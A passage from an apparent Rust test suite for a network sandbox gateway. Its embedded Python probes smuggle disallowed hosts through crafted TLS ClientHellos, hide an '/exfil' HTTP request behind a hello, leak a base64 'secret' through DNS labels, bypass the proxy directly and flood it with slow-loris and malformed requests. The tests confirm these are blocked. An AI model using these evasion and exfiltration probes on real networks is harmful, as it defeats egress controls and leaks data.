        run.expect("socks-plaintext", &["0 b''"]);
        for name in ["host-other", "host-port"] {
            run.expect(name, &["HTTP/1.1 403"]);
            run.expect_not(name, &["hello from"]);
        }
        for fragment in [&f, &h, &s] {
            run.check(lab.hellos_with(fragment).is_empty(), &format!("the TLS server saw the SNI {fragment}"));
        }
        for suffix in ["front", "plain", "socksplain", "nosni", "host-other", "host-port"] {
            let seen = lab.requests_with(&format!("{m}-{suffix}"));
            run.check(seen.is_empty(), &format!("{suffix}: the server saw {seen:?}"));
        }
        let reasons = [("http-connect", "sni-mismatch"), ("socks5", "sni-mismatch"), ("http-connect", "not-tls")];
        for (proto, reason) in reasons {
            run.event("net.deny", &[("proto", proto), ("host", "allowed.test"), ("reason", reason)]);
        }
        run.event("net.deny", &[("proto", "socks5"), ("reason", "not-tls")]);
        run.denied("allowed.test", "no-sni");
        run.event("net.deny", &[("proto", "http"), ("reason", "host-mismatch")]);
    });
}

/// Raw ClientHellos, and a reader of the server's answers to them.
const PY_CLIENT_HELLO: &str = r#"
import struct
OTHER, ALLOWED_OTHER = 'o%s.other.test' % M, 'w%s.wild.test' % M
# The random of a ServerHello that is a HelloRetryRequest (RFC 8446, 4.1.3).
HRR = bytes.fromhex('cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c')

def host(case):
    return '%s-%s.wild.test' % (case, M)

def hello(name, names=None, key_share=True):
    """OpenSSL's ClientHello for `name`, as one record; with `names`, its server_name list
    holds those (type, name) entries instead; without `key_share`, it offers no key share,
    which a TLS 1.3 server that supports a listed group answers with a HelloRetryRequest."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    tls = ctx.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    body = outgoing.read()[9:]
    # Version and random, then session id, cipher suites and compression methods.
    p = 34
    p += 1 + body[p]
    p += 2 + int.from_bytes(body[p:p + 2], 'big')
    p += 1 + body[p]
    exts, q, end = [], p + 2, p + 2 + int.from_bytes(body[p:p + 2], 'big')
    while q < end:
        kind, n = struct.unpack('>HH', body[q:q + 4])
        exts.append((kind, body[q + 4:q + 4 + n]))
        q += 4 + n
    if names is not None:
        entries = b''.join(bytes([t]) + struct.pack('>H', len(n)) + n.encode() for t, n in names)
        exts = [(0, struct.pack('>H', len(entries)) + entries) if k == 0 else (k, d) for k, d in exts]
    if not key_share:
        exts = [(51, b'\x00\x00') if k == 51 else (k, d) for k, d in exts]
    ext = b''.join(struct.pack('>HH', k, len(d)) + d for k, d in exts)
    body = body[:p] + struct.pack('>H', len(ext)) + ext
    message = b'\x01' + len(body).to_bytes(3, 'big') + body
    return b'\x16\x03\x01' + struct.pack('>H', len(message)) + message

def server_hellos(data):
    """'retry' for each HelloRetryRequest and 'hello' for each ServerHello among the records in data."""
    found, p = [], 0
    while p + 5 <= len(data):
        kind, n = data[p], int.from_bytes(data[p + 3:p + 5], 'big')
        record = data[p + 5:p + 5 + n]
        if len(record) < n:
            break
        if kind == 22 and record[:1] == b'\x02' and len(record) >= 38:
            found.append('retry' if record[6:38] == HRR else 'hello')
        p += 5 + n
    return found

def tunnel(case, via):
    if via == 'socks':
        s, code = socks(host(case), 443)
    else:
        s, code = connect(host(case) + ':443')
    return s, code

def retry(case, second, via='connect'):
    """A ClientHello for the tunnel's host without a key share, then, after the server's
    HelloRetryRequest, a second one for `second`: what the server answered, and whether the
    tunnel was closed."""
    s, code = tunnel(case, via)
    s.sendall(hello(host(case), key_share=False))
    data = recv_until(s, server_hellos)
    s.sendall(hello(second))
    data += recv_until(s, lambda more: len(server_hellos(data + more)) >= 2)
    out(case, code, *server_hellos(data))

def listed(case, names):
    """A ClientHello whose server_name list holds `names` (the tunnel's host first)."""
    s, code = tunnel(case, 'connect')
    s.sendall(hello(host(case), names=[(t, host(case) if n is None else n) for t, n in names]))
    out(case, code, *(server_hellos(recv_until(s, server_hellos)) or ['closed']))
"#;

const PY_HELLO: &str = r#"
retry('retry-same', host('retry-same'))
retry('retry-other', OTHER)
retry('retry-allowed', ALLOWED_OTHER)
retry('retry-socks', OTHER, via='socks')
curl('curl-retry', '--curves', 'P-521:X25519', '--cacert', CA, 'https://%s/hello?m=%s-curl-retry' % (host('curl-retry'), M))
listed('list-one', [(0, None)])
listed('list-type1', [(0, None), (1, 'x'), (0, OTHER)])
listed('list-two', [(0, None), (0, OTHER)])
"#;

/// The server name of a tunnel is checked in every ClientHello the server acts on, and read
/// the one way every server reads it:
/// - a first ClientHello for the tunnel's host that offers no key share draws a
///   HelloRetryRequest from the server; a second ClientHello naming another host (not allowed,
///   or allowed) closes the tunnel, over CONNECT and SOCKS5, and the server never sees it;
/// - a server_name list with a second entry after the tunnel's host (of another type, or a
///   second host name) is refused before any of it reaches the server.
///
/// Controls: the same crafted hellos naming the tunnel's host go through (the server answers
/// the second hello with its ServerHello, and records both), and so does curl when the server
/// asks it to retry (its only key share is for P-521, which the lab's server lacks).
#[test]
fn every_client_hello_names_the_tunnel_host() {
    each_identity("hello", |lab, env, m| {
        let host = |case: &str| format!("{case}-{m}.wild.test");
        let (other, allowed_other) = (format!("o{m}.other.test"), format!("w{m}.wild.test"));
        let code = format!("{PY_CLIENT_HELLO}{PY_HELLO}");
        let run = Run::sandboxed(lab, env, &["--allow-host", "*.wild.test"], &code, m);
        assert_code(&run.out, 0);

        // Controls.
        run.expect("retry-same", &["200 retry hello"]);
        let seen = lab.hellos_with(&host("retry-same"));
        run.check(seen.len() == 2 && seen[1].retry, &format!("retry-same: the server saw {seen:?}"));
        run.expect("curl-retry", &["rc=0", &format!("hello from 192.0.2.10 host={} tls=true", host("curl-retry"))]);
        let seen = lab.hellos_with(&host("curl-retry"));
        run.check(seen.iter().any(|h| h.retry), &format!("curl-retry: no second hello: {seen:?}"));
        run.expect("list-one", &["200 hello"]);
        run.check(lab.hellos_with(&host("list-one")).len() == 1, "list-one: the server did not see the hello");

        // A second hello for another host: the tunnel closes after the HelloRetryRequest.
        for name in [&other, &allowed_other] {
            let seen = lab.hellos_mentioning(name);
            run.check(seen.is_empty(), &format!("the TLS server saw a hello naming {name}: {seen:?}"));
        }
        for case in ["retry-other", "retry-allowed", "retry-socks"] {
            let answer = if case == "retry-socks" { "0 retry" } else { "200 retry" };
            run.check(run.get(case).trim_end() == answer, &format!("{case}: {}", run.get(case)));
            let seen = lab.hellos_with(&host(case));
            run.check(seen.len() == 1 && !seen[0].retry, &format!("{case}: the server saw {seen:?}"));
            let ev = run.denied(&host(case), "sni-mismatch");
            let detail = ev["detail"].as_str().unwrap_or("");
            run.check(detail.contains("HelloRetryRequest"), &format!("{case}: {detail}"));
        }
        run.event("net.deny", &[("proto", "socks5"), ("host", &host("retry-socks")), ("reason", "sni-mismatch")]);

        // A server_name list of more than one entry: refused, the server saw none of it.
        for case in ["list-type1", "list-two"] {
            run.check(run.get(case) == "200 closed", &format!("{case}: {}", run.get(case)));
            let seen = lab.hellos_mentioning(&host(case));
            run.check(seen.is_empty(), &format!("{case}: the server saw {seen:?}"));
            run.denied(&host(case), "not-tls");
        }
        let ev = run.denied(&host("list-type1"), "not-tls");
        let detail = ev["detail"].as_str().unwrap_or("");
        run.check(detail.contains("exactly one host name"), &format!("list-type1: {detail}"));
    });
}

const PY_HELD: &str = r#"
def record(kind, payload):
    return bytes([kind, 3, 3]) + struct.pack('>H', len(payload)) + payload

def answer(s, want=1):
    """The server's hellos, until `want` of them or the end of the tunnel."""
    return server_hellos(recv_until(s, lambda data: len(server_hellos(data)) >= want)) or ['closed']

def send(case, data, via='connect', want=1):
    """Opens a tunnel to the case's host, writes data in one go, prints what came back."""
    s, code = tunnel(case, via)
    # Every answer is prompt; a tunnel left open must not hold up the other cases.
    s.settimeout(2)
    s.sendall(data)
    out(case, code, *answer(s, want))
    return s

def first(case):
    """A hello for the case's host without a key share: the server asks to retry."""
    return hello(host(case), key_share=False)

# A second hello in the same write as a first one that draws a HelloRetryRequest.
for via in ['connect', 'socks']:
    send('pipe-other-' + via, first('pipe-other-' + via) + hello(OTHER), via, 2)
    send('pipe-same-' + via, first('pipe-same-' + via) + hello(host('pipe-same-' + via)), via, 2)

# A "ChangeCipherSpec" record that declares more than its one byte: it wraps a hello for the
# tunnel's host, and a hello for another host follows it.
send('ccs-first', record(0x14, b'\x01' + hello(host('ccs-first'))) + hello(OTHER))
s = send('ccs-retry', first('ccs-retry'))
s.sendall(record(0x14, b'\x01' + hello(host('ccs-retry'))) + hello(OTHER))
out('ccs-retry-second', *answer(s))
s = send('ccs-exact', first('ccs-exact'))
s.sendall(bytes.fromhex('140303000101') + hello(host('ccs-exact')))
out('ccs-exact-second', *answer(s))

# Two ClientHello messages in one handshake record.
send('packed', record(0x16, hello(host('packed'))[5:] + hello(OTHER)[5:]))
send('packed-control', record(0x16, hello(host('packed-control'))[5:]))
"#;

/// Plain HTTP behind a ClientHello, in one write, to the lab's HTTP server on port 80.
const PY_HELLO_THEN_PLAIN: &str = r#"
def hello_then_plain(marker):
    return hello('allowed.test') + b'\r\nGET /exfil?m=%s HTTP/1.1\r\nHost: other.test\r\n\r\n' % marker.encode()

if sys.argv[3] == 'tunnel':
    s, code = connect('allowed.test:80')
    s.sendall(hello_then_plain(M + '-tunnel'))
    out('plain', code, repr(recv_all(s)))
else:
    s = socket.create_connection(('192.0.2.10', 80), timeout=10)
    s.sendall(hello_then_plain(M + '-direct'))
    out('plain', repr(recv_until(s, lambda data: b'path=/exfil' in data)))
"#;

/// Only the checked ClientHello goes to the server; whatever the client wrote after it waits
/// until the server has answered with TLS, and is checked when it is a second hello:
/// - a first hello for the tunnel's host that draws a HelloRetryRequest, and in the same write
///   a second hello naming another host: the tunnel closes after the HelloRetryRequest, over
///   CONNECT and SOCKS5, and the server never sees the second hello;
/// - a leading ChangeCipherSpec record longer than its one byte (wrapping a hello for the
///   tunnel's host, with a hello for another host after it) is not TLS, as the first record or
///   before the second hello, and the server sees none of it;
/// - a handshake record holding a hello for the tunnel's host and then a hello for another
///   host is not TLS, and the server sees nothing.
///
/// Controls: the same pipelined write with a second hello for the tunnel's host is answered
/// with a ServerHello (the server records both hellos), so is a second hello behind the exact
/// ChangeCipherSpec record, and a record holding just the one hello.
#[test]
fn only_the_checked_hello_reaches_the_server() {
    each_identity("held", |lab, env, m| {
        let host = |case: &str| format!("{case}-{m}.wild.test");
        let other = format!("o{m}.other.test");
        let code = format!("{PY_CLIENT_HELLO}{PY_HELD}");
        let run = Run::sandboxed(lab, env, &["--allow-host", "*.wild.test"], &code, m);
        assert_code(&run.out, 0);

        // Controls.
        for (case, answer) in [("pipe-same-connect", "200 retry hello"), ("pipe-same-socks", "0 retry hello")] {
            run.check(run.get(case).trim_end() == answer, &format!("{case}: {}", run.get(case)));
            let seen = lab.hellos_with(&host(case));
            run.check(seen.len() == 2 && seen[1].retry, &format!("{case}: the server saw {seen:?}"));
        }
        run.expect("ccs-exact-second", &["hello"]);
        let seen = lab.hellos_with(&host("ccs-exact"));
        run.check(seen.len() == 2 && seen[1].retry, &format!("ccs-exact: the server saw {seen:?}"));
        run.expect("packed-control", &["200 hello"]);
        run.check(lab.hellos_with(&host("packed-control")).len() == 1, "packed-control: the server saw no hello");

        // The other host's hello never reached the TLS server, in any form.
        let seen = lab.hellos_mentioning(&other);
        run.check(seen.is_empty(), &format!("the TLS server saw a hello naming {other}: {seen:?}"));
        let bytes = lab.tls_bytes_mentioning(&other);
        run.check(bytes == 0, &format!("{bytes} TLS connections received bytes naming {other}"));

        // A pipelined second hello for another host: refused after the HelloRetryRequest.
        for (case, answer, proto) in
            [("pipe-other-connect", "200 retry", "http-connect"), ("pipe-other-socks", "0 retry", "socks5")]
        {
            run.check(run.get(case).trim_end() == answer, &format!("{case}: {}", run.get(case)));
            let seen = lab.hellos_with(&host(case));
            run.check(seen.len() == 1 && !seen[0].retry, &format!("{case}: the server saw {seen:?}"));
            let ev = run.event("net.deny", &[("proto", proto), ("host", &host(case)), ("reason", "sni-mismatch")]);
            let detail = ev["detail"].as_str().unwrap_or("");
            run.check(detail.contains("HelloRetryRequest"), &format!("{case}: {detail}"));
        }

        // A long ChangeCipherSpec record, or two hellos in one record: not TLS.
        for case in ["ccs-first", "packed"] {
            run.check(run.get(case).trim_end() == "200 closed", &format!("{case}: {}", run.get(case)));
            let seen = lab.hellos_mentioning(&host(case));
            run.check(seen.is_empty(), &format!("{case}: the server saw {seen:?}"));
            let bytes = lab.tls_bytes_mentioning(&host(case));
            run.check(bytes == 0, &format!("{case}: {bytes} TLS connections received bytes naming the host"));
            run.denied(&host(case), "not-tls");
        }
        run.check(run.get("ccs-retry").trim_end() == "200 retry", &format!("ccs-retry: {}", run.get("ccs-retry")));
        run.check(run.get("ccs-retry-second") == "closed", &format!("ccs-retry: {}", run.get("ccs-retry-second")));
        let seen = lab.hellos_mentioning(&host("ccs-retry"));
        run.check(seen.len() == 1 && !seen[0].retry, &format!("ccs-retry: the server saw {seen:?}"));
        let ev = run.denied(&host("ccs-retry"), "not-tls");
        let detail = ev["detail"].as_str().unwrap_or("");
        run.check(detail.contains("HelloRetryRequest"), &format!("ccs-retry: {detail}"));
    });
}

/// A tunnel to a server that does not speak TLS carries nothing but the ClientHello: a hello
/// for allowed.test followed, in the same write, by a plain HTTP request for another host,
/// through a tunnel to allowed.test:80 (the lab's HTTP server, which answers the hello with a
/// 400 and reads on). The tunnel closes when the answer is not TLS, and the server never gets
/// the request. Control: the same bytes sent from H straight to 192.0.2.10:80 get the hidden
/// request served.
#[test]
fn a_server_that_does_not_answer_tls_gets_nothing_more() {
    each_identity("plain", |lab, env, m| {
        let code = format!("{PY_CLIENT_HELLO}{PY_HELLO_THEN_PLAIN}");
        let run = Run::sandboxed_argv(lab, env, &["--allow-host", "allowed.test"], &code, &[m, "tunnel"]);
        assert_code(&run.out, 0);
        run.check(run.get("plain") == "200 b''", &format!("plain: {}", run.get("plain")));
        run.check_unreached(lab, &format!("{m}-tunnel"));
        let ev = run.denied("allowed.test", "not-tls");
        let detail = ev["detail"].as_str().unwrap_or("");
        run.check(detail.contains("did not answer with TLS"), &format!("plain: {detail}"));

        // Control: without the gateway, the server answers the hello with a 400, then serves
        // the request after it.
        let direct = Run::unsandboxed_over(lab, env, &[], &code, &[m, "direct"]);
        direct.expect("plain", &["400 Bad Request", &format!("host=other.test tls=false path=/exfil?m={m}-direct")]);
        let seen = lab.requests_with(&format!("{m}-direct"));
        direct.check(seen.len() == 1 && seen[0].host == "other.test", &format!("control: the server saw {seen:?}"));
    });
}

const PY_DNS: &str = r#"
secret = 'c2VjcmV0'
N = sys.argv[3]
curl('proxy', '-i', 'http://%s.p%s.wild.test/' % (secret, N))
s, code = connect('%s.c%s.wild.test:443' % (secret, N))
out('connect', code)
s, code = socks('%s.s%s.wild.test' % (secret, N), 443)
out('socks', code)
try:
    out('getaddrinfo', 'RESOLVED', socket.getaddrinfo('%s.g%s.wild.test' % (secret, N), 443))
except Exception as e:
    out('getaddrinfo', 'ERR', e)
p = subprocess.run(['getent', 'hosts', '%s.e%s.wild.test' % (secret, N)], capture_output=True)
out('getent', 'rc=%d' % p.returncode, p.stdout.decode())
curl('control', 'http://ok%s.wild.test/hello' % M)
"#;

/// DNS exfiltration: a name that isn't allowed is never sent to the resolver, whether asked
/// for through the HTTP proxy, CONNECT or SOCKS5, and the sandbox's own lookups (getaddrinfo,
/// getent) fail without reaching it; with the system resolver and with `--resolver`. Controls:
/// the allowed name reaches the resolver (and the events say which resolver), and the same
/// getent on H unsandboxed does too.
#[test]
fn denied_names_never_reach_the_resolver() {
    each_identity("hostdns", |lab, env, h| {
        for resolver in [None, Some("192.0.2.53")] {
            let m = unique("dns");
            let n = unique("exfil");
            let ok = format!("ok{m}.wild.test");
            let mut args = vec!["--allow-host", "allowed.test", "--allow-host", &ok];
            if let Some(r) = resolver {
                args.extend(["--resolver", r]);
            }
            let run = Run::sandboxed_argv(lab, env, &args, PY_DNS, &[&m, &n]);
            assert_code(&run.out, 0);
            assert_403(&run, "proxy");
            run.expect("connect", &["403"]);
            run.expect("socks", &["2"]);
            run.expect("getaddrinfo", &["ERR"]);
            run.expect_not("getent", &["rc=0"]);
            let seen = lab.queries_with(&n);
            run.check(seen.is_empty(), &format!("resolver {resolver:?}: the resolver saw {seen:?}"));
            run.check(run.events_with("net.dns", &[]).iter().all(|e| !e["name"].to_string().contains(&n)), "net.dns");

            run.expect("control", &["rc=0", &format!("hello from 192.0.2.10 host={ok}")]);
            run.check(!lab.queries_with(&ok).is_empty(), "control: the resolver did not see the allowed name");
            let label = resolver.map_or("system".to_string(), |r| format!("{r}:53"));
            run.event("net.dns", &[("name", &ok), ("resolver", &label)]);
        }
        // Control: a lookup on H without ringfence reaches the resolver.
        let who = env.who;
        let out = lab.host_sh(env, &format!("getent hosts c2VjcmV0.{h}.wild.test"));
        assert!(stdout(&out).contains("192.0.2.10"), "{who:?}: control lookup on H: {}", both(&out));
        assert!(!lab.queries_with(h).is_empty(), "{who:?}: control lookup on H not seen");
    });
}

const PY_SEARCH: &str = r#"
curl('search', 'http://%s/hello?m=%s-search' % (sys.argv[3], M))
curl('hosts-file', 'http://%s/hello?m=%s-hosts-file' % (sys.argv[4], M))
"#;

/// The system resolver looks up an allowed name as the absolute name it is: with `search
/// corp.test` and `options ndots:5` in H's resolv.conf, the allowed `s{m}.wild.test` reaches
/// 192.0.2.10, although `s{m}.wild.test.corp.test` exists (at 192.0.2.12), and the resolver is
/// never asked for the `.corp.test` name. A name that only H's /etc/hosts knows still
/// resolves. Control: the same script on H without ringfence (same resolv.conf and hosts file)
/// asks for the `.corp.test` name first and reaches 192.0.2.12, and reaches the hosts file's
/// address.
#[test]
fn system_resolver_ignores_the_search_list() {
    each_identity("search", |lab, env, m| {
        let (s, h) = (format!("s{m}.wild.test"), format!("h{m}.hostsfile.test"));
        let resolv = env.root.join("resolv.conf");
        std::fs::write(
            &resolv,
            format!("nameserver {RESOLVER}\nsearch corp.test\noptions ndots:5 timeout:2 attempts:1\n"),
        )
        .unwrap();
        let hosts = env.root.join("hosts");
        std::fs::write(&hosts, format!("127.0.0.1 localhost\n::1 localhost\n192.0.2.13 {h}\n")).unwrap();
        let files = [(resolv.as_path(), "/etc/resolv.conf"), (hosts.as_path(), "/etc/hosts")];

        let args = ["--allow-host", &s, "--allow-host", &h];
        let run = Run::sandboxed_over(lab, env, &files, &args, PY_SEARCH, &[m, &s, &h]);
        assert_code(&run.out, 0);
        run.expect("search", &["rc=0", &format!("hello from 192.0.2.10 host={s}")]);
        run.expect("hosts-file", &["rc=0", &format!("hello from 192.0.2.13 host={h}")]);
        let asked = lab.queries_with(m);
        run.check(asked.iter().any(|q| q.name == s), &format!("the resolver was not asked for {s}: {asked:?}"));
        let searched: Vec<_> = asked.iter().filter(|q| q.name.ends_with(".corp.test")).collect();
        run.check(searched.is_empty(), &format!("the resolver was asked for a search-list name: {searched:?}"));
        for (name, addr) in [(&s, "192.0.2.10"), (&h, "192.0.2.13")] {
            let ev = run.event("net.dns", &[("name", name)]);
            run.check(ev["answers"] == serde_json::json!([addr]), &format!("net.dns of {name}: {ev}"));
        }

        // Control: without ringfence, the search list applies.
        let host = Run::unsandboxed_over(lab, env, &files, PY_SEARCH, &[m, &s, &h]);
        host.expect("search", &["rc=0", &format!("hello from 192.0.2.12 host={s}")]);
        host.expect("hosts-file", &["rc=0", &format!("hello from 192.0.2.13 host={h}")]);
        let searched = format!("{s}.corp.test");
        host.check(
            lab.queries_with(m).iter().any(|q| q.name == searched),
            &format!("the resolver was not asked for {searched}"),
        );
    });
}

const PY_BYPASS: &str = r#"
def tcp(name, host, port, payload):
    fam = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(payload)
        out(name, 'CONNECTED', recv_head(s)[:60])
    except Exception as e:
        out(name, 'FAILED', e)

def dns_query(name):
    q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    return q + b'\x00\x00\x01\x00\x01'

req = b'GET /hello?m=%s-direct HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % M.encode()
tcp('tcp-v4', '192.0.2.10', 80, req)
tcp('tcp-far', '203.0.113.10', 80, req)
tcp('tcp-v6', '2001:db8::10', 80, req)
tcp('tcp-dns', '192.0.2.53', 53, b'\x00\x20' + dns_query('t%s.wild.test' % M))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
try:
    u.sendto(dns_query('u%s.wild.test' % M), ('192.0.2.53', 53))
    out('udp-dns', 'ANSWERED', len(u.recv(4096)))
except Exception as e:
    out('udp-dns', 'FAILED', e)
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
try:
    u6.sendto(b'exfil u6%s' % M.encode(), ('2001:db8::10', 53))
    out('udp-v6', 'SENT')
except Exception as e:
    out('udp-v6', 'FAILED', e)
curl('noproxy', '--noproxy', '*', 'http://allowed.test/hello?m=%s-noproxy' % M)
if os.environ.get('http_proxy'):
    curl('via-proxy', 'http://allowed.test/hello?m=%s-via-proxy' % M)
"#;

/// Bypassing the proxy: direct TCP to addresses no rule lists (IPv4 and IPv6) is refused at
/// connect(2), DNS to the lab's resolver over TCP and UDP is answered by the sandbox's own
/// resolver (these names aren't allowed: nothing reaches the lab's), and a datagram elsewhere
/// goes nowhere; curl with `--noproxy '*'` reaches the allowed host through the transparent
/// path. Control: the same script on H without ringfence reaches every server.
#[test]
fn direct_connections_bypassing_the_proxy_fail() {
    let quiet = [ip("203.0.113.10"), ip("2001:db8::10")];
    each_identity("bypass", |lab, env, m| {
        let who = env.who;
        let before = connection_counts(lab, &quiet);
        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_BYPASS, m);
        assert_code(&run.out, 0);
        run.expect("via-proxy", &["rc=0", "hello from 192.0.2.10"]);
        for name in ["tcp-v4", "tcp-far", "tcp-v6"] {
            run.expect(name, &["FAILED", "Connection refused"]);
        }
        run.expect(
            "noproxy",
            &["rc=0", &format!("hello from 192.0.2.10 host=allowed.test tls=false path=/hello?m={m}-noproxy")],
        );
        run.check(lab.requests_with(&format!("{m}-direct")).is_empty(), "a direct request arrived");
        run.check_no_new_connections(lab, &quiet, &before);
        run.check(lab.queries_with(m).is_empty(), "the resolver got a direct query");
        run.event("net.deny", &[("proto", "tcp"), ("host", "203.0.113.10"), ("port", "80"), ("reason", "not-allowed")]);
        run.event("net.deny", &[("proto", "tcp"), ("host", "2001:db8::10"), ("port", "80")]);
        run.event("net.deny", &[("proto", "dns"), ("host", &format!("u{m}.wild.test"))]);

        // Control: the same probes without ringfence get through.
        let c = unique("bypassctl");
        let host = Run::unsandboxed(lab, env, PY_BYPASS, &c);
        for name in ["tcp-v4", "tcp-far", "tcp-v6", "tcp-dns"] {
            host.expect(name, &["CONNECTED"]);
        }
        host.expect("udp-dns", &["ANSWERED"]);
        host.expect("noproxy", &["rc=0", "hello from 192.0.2.10"]);
        assert!(lab.requests_with(&format!("{c}-direct")).len() >= 3, "{who:?}: control requests not seen");
        assert!(!lab.queries_with(&format!("u{c}")).is_empty(), "{who:?}: control query not seen");
        for (a, b) in quiet.iter().zip(&before) {
            assert!(lab.connections_to(Side::Internet, *a) > *b, "{who:?}: control: {a} saw no connection");
        }
    });
}

const PY_ROBUST: &str = r#"
def exchange(port, data, timeout=5):
    """Sends data; returns what came back, and whether the gateway closed (not timed out)."""
    s = proxy(port, timeout)
    got = b''
    try:
        s.sendall(data)
        while True:
            chunk = s.recv(65536)
            if not chunk:
                return got, True
            got += chunk
    except socket.timeout:
        return got, False
    except OSError:
        return got, True

def normal(name):
    s = proxy()
    s.sendall(b'GET http://allowed.test/hello?m=%s-%s HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n'
              % (M.encode(), name.encode()))
    out(name, recv_all(s).decode(errors='replace'))

loris = proxy(3128, 20)
loris.sendall(b'GET http://allowed.test/hello HTTP/1.1\r\nHost: allo')
started = time.time()

malformed = {
    'no-target': b'CONNECT\r\n\r\n',
    'bad-port': b'CONNECT allowed.test:99999 HTTP/1.1\r\nHost: allowed.test:99999\r\n\r\n',
    'no-colon-header': b'CONNECT allowed.test:443 HTTP/1.1\r\nthis is no header\r\n\r\n',
    'binary': b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
    'space-in-host': b'CONNECT allowed .test:443 HTTP/1.1\r\n\r\n',
    'relative-get': b'GET /hello HTTP/1.1\r\nHost: allowed.test\r\n\r\n',
}
for name, data in malformed.items():
    out(name, status(exchange(3128, data)[0]))
big = b'GET http://allowed.test/hello HTTP/1.1\r\nHost: allowed.test\r\nX-Big: ' + b'a' * 40000 + b'\r\n\r\n'
out('oversized', status(exchange(3128, big)[0]))
out('bad-gateway', status(exchange(3128, b'GET http://other.test:81/ HTTP/1.1\r\nHost: other.test:81\r\n\r\n')[0]))

def socks_garbage(name, data):
    got, closed = exchange(1080, data)
    out(name, 'closed=%s' % closed, repr(got))
socks_garbage('socks-v4', b'\x04\x01\x00\x50\xc0\x00\x02\x0a\x00')
socks_garbage('socks-http', b'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n')
socks_garbage('socks-no-methods', b'\x05\x00')
socks_garbage('socks-bad-request', b'\x05\x01\x00' + b'\xff' * 300)
socks_garbage('socks-bad-atyp', b'\x05\x01\x00\x05\x01\x00\x09' + b'\x00' * 40)
s, code = socks('allowed.test', 443, cmd=2)
out('socks-bind', code)
s, code = socks('allowed.test', 443, cmd=3)
out('socks-udp', code)

threads = [threading.Thread(target=normal, args=('during-%d' % i,)) for i in range(3)]
for t in threads:
    t.start()
for t in threads:
    t.join()
s, code = socks('allowed.test', 443)
out('during-socks', code, https_get(s, 'allowed.test', '/hello?m=%s-during-socks' % M))
out('loris-pending', time.time() - started < 9)

head = recv_head(loris)
out('loris', status(head), round(time.time() - started, 1), repr(recv_all(loris))[:40])
normal('after')
"#;

/// Robustness: malformed CONNECT lines get 400, an oversized head 431, an unreachable
/// upstream 502, a slow-loris client 408 and a close after 10 s, SOCKS garbage a close, and
/// unsupported SOCKS commands reply 7, while normal requests through the same gateway (HTTP and
/// SOCKS5, during and after the abuse) still succeed.
#[test]
fn gateway_survives_bad_clients() {
    let Some(lab) = lab() else { return };
    // The slow-loris probe waits out the gateway's 10 s head timeout: the identities run side
    // by side.
    std::thread::scope(|scope| {
        let runs: Vec<_> = identities()
            .into_iter()
            .map(|who| scope.spawn(move || bad_clients(lab, &Env::new(who), &unique("robust"))))
            .collect();
        for run in runs {
            if let Err(panic) = run.join() {
                std::panic::resume_unwind(panic);
            }
        }
    });
}

fn bad_clients(lab: &Lab, env: &Env, m: &str) {
    let args = ["--allow-host", "allowed.test", "--allow-host", "other.test:81"];
    let run = Run::sandboxed(lab, env, &args, PY_ROBUST, m);
    assert_code(&run.out, 0);
    for name in ["no-target", "bad-port", "no-colon-header", "binary", "space-in-host", "relative-get"] {
        run.expect(name, &["400"]);
    }
    run.expect("oversized", &["431"]);
    run.expect("bad-gateway", &["502"]);
    // Garbage is answered by a close: at most the method choice and a failure reply.
    for name in ["socks-v4", "socks-http", "socks-no-methods", "socks-bad-request", "socks-bad-atyp"] {
        let got = run.get(name);
        run.check(got.starts_with("closed=True"), &format!("{name}: not closed: {got}"));
        run.check(!got.contains(r"\x05\x00\x00"), &format!("{name}: a success reply: {got}"));
    }
    run.expect("socks-bind", &["7"]);
    run.expect("socks-udp", &["7"]);
    for name in ["during-0", "during-1", "during-2", "after"] {
        run.expect(name, &["HTTP/1.1 200", "hello from 192.0.2.10"]);
    }
    run.expect("during-socks", &["0 ", "hello from 192.0.2.10"]);
    run.expect("loris-pending", &["True"]);
    let loris: Vec<&str> = run.get("loris").split(' ').collect();
    run.check(loris[0] == "408", "slow loris: no 408");
    let waited: f64 = loris[1].parse().unwrap();
    run.check((8.0..=15.0).contains(&waited), &format!("slow loris answered after {waited} s"));
    run.check(!run.events_with("net.deny", &[("reason", "bad-request")]).is_empty(), "no bad-request event");
}

const PY_HTTP: &str = r#"
import http.client
c = http.client.HTTPConnection('127.0.0.1', 3128, timeout=20)
c.request('GET', 'http://allowed.test/hello?m=%s-ka1' % M)
r1 = c.getresponse(); b1 = r1.read(); p1 = c.sock.getsockname()
c.request('GET', 'http://allowed.test/hello?m=%s-ka2' % M)
r2 = c.getresponse(); b2 = r2.read(); p2 = c.sock.getsockname()
out('keepalive', r1.status, r2.status, 'same-connection=%s' % (p1 == p2), b2.decode())

chunks = [bytes([i]) * (1000 + 37 * i) for i in range(200)]
expected = hashlib.sha256(b''.join(chunks)).hexdigest()
started = time.time()
c.request('POST', 'http://allowed.test/upload?m=%s-chunked' % M, body=iter(chunks),
          headers={'Transfer-Encoding': 'chunked'}, encode_chunked=True)
r = c.getresponse()
out('chunked', r.status, r.read().decode().strip(), 'expected=len=%d sha256=%s' % (sum(map(len, chunks)), expected))
out('chunked-time', round(time.time() - started, 3))
c.close()

def make(path, size):
    with open(path, 'wb') as f:
        block = os.urandom(1 << 20)
        for i in range(size >> 20):
            f.write(block[i:] + block[:i])
    h = hashlib.sha256()
    with open(path, 'rb') as f:
        for b in iter(lambda: f.read(1 << 20), b''):
            h.update(b)
    return 'len=%d sha256=%s' % (size, h.hexdigest())

big = make('big.bin', 64 << 20)
curl('big', '-m', '120', '--data-binary', '@big.bin', 'http://allowed.test/upload?m=%s-big' % M)
out('big-expected', big)
